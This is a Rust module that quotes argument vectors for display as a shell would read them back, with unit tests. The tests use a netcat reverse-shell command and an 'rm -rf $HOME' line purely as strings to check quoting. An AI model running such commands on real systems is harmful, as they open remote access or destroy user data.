//! Argument vectors as a shell would take them back: plain words as they are, anything else in
//! single quotes (`sh -c 'echo hi'`), so that a reader sees where each argument ends.

/// Appends `args` joined by spaces, each quoted where a shell would need it.
pub fn write_argv<'a>(out: &mut Vec<u8>, args: impl IntoIterator<Item = &'a [u8]>) {
    for (i, arg) in args.into_iter().enumerate() {
        if i > 0 {
            out.push(b' ');
        }
        write_word(out, arg);
    }
}

/// Appends one argument, in single quotes unless every byte is safe bare; a single quote
/// inside becomes `'\''`.
pub fn write_word(out: &mut Vec<u8>, arg: &[u8]) {
    if !arg.is_empty() && arg.iter().all(|&b| is_bare(b)) {
        out.extend_from_slice(arg);
        return;
    }
    super::csv::write_quoted(out, arg, b'\'', b"'\\''");
}

/// Bytes a shell reads literally outside quotes (and non-ASCII, which it passes through).
fn is_bare(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b >= 0x80 || b"-_./:=@%+,^".contains(&b)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn joined(args: &[&[u8]]) -> String {
        let mut out = Vec::new();
        write_argv(&mut out, args.iter().copied());
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn words_that_need_it_are_quoted() {
        assert_eq!(
            joined(&[b"nc", b"-e", b"/bin/sh", b"198.51.100.9", b"4444"]),
            "nc -e /bin/sh 198.51.100.9 4444"
        );
        assert_eq!(
            joined(&[b"sh", b"-c", b"echo \"hi\"; rm -rf $HOME"]),
            "sh -c 'echo \"hi\"; rm -rf $HOME'"
        );
        assert_eq!(joined(&[b"printf", b""]), "printf ''");
        assert_eq!(joined(&[b"it's"]), "'it'\\''s'");
        assert_eq!(joined(&[b"-F)", b"{print $1}"]), "'-F)' '{print $1}'");
    }
}
